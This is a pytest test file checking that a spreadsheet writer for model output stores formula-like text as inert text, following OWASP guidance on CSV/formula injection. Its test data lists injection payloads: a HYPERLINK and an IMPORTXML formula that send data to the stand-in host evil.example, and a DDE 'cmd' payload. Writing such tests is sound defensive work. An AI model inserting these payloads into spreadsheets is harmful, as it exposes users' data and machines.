"""Model text written to .xlsx never becomes a live formula (OWASP CSV/formula injection)."""

from __future__ import annotations

import pytest
from openpyxl import load_workbook

from agents.computer_validation.spreadsheets import Sheet, write_xlsx

DANGEROUS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"cliquez\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def test_text_starting_like_a_formula_stays_text(tmp_path):
    sheet = Sheet("AMDEC", ["ID", "Mode de défaillance"], [[f"R{number}", text] for number, text in
                                                           enumerate(DANGEROUS)],
                  notes=["=IMPORTXML(\"http://evil.example\",\"//a\")"])
    path = tmp_path / "risques.xlsx"
    write_xlsx([sheet], path)
    worksheet = load_workbook(path)["AMDEC"]
    cells = [worksheet.cell(row=line, column=2) for line in range(2, 2 + len(DANGEROUS))]
    assert [cell.value for cell in cells] == DANGEROUS  # the text itself is kept, character for character
    assert all(cell.data_type == "s" for cell in cells)
    assert all(cell.quotePrefix for cell in cells)  # Excel keeps it text even when the cell is edited
    note = worksheet.cell(row=len(DANGEROUS) + 3, column=1)
    assert note.value.startswith("=IMPORTXML") and note.data_type == "s"


def test_header_from_a_model_cannot_be_a_formula_either(tmp_path):
    path = tmp_path / "entetes.xlsx"
    write_xlsx([Sheet("URS", ["=1+1", "Exigence"], [["URS-01", "Le système trace les accès."]])], path)
    assert load_workbook(path)["URS"]["A1"].data_type == "s"


@pytest.mark.parametrize("value", [-3, 2.5, 0])
def test_numbers_stay_numbers(tmp_path, value):
    path = tmp_path / "nombres.xlsx"
    write_xlsx([Sheet("Feuille", ["Note"], [[value]])], path)
    cell = load_workbook(path)["Feuille"]["A2"]
    assert cell.value == value and cell.data_type == "n"


def test_ordinary_text_is_untouched(tmp_path):
    path = tmp_path / "texte.xlsx"
    write_xlsx([Sheet("Feuille", ["Texte"], [["Contrôle d'accès = exigence"]])], path)
    cell = load_workbook(path)["Feuille"]["A2"]
    assert cell.value == "Contrôle d'accès = exigence" and cell.data_type == "s" and not cell.quotePrefix
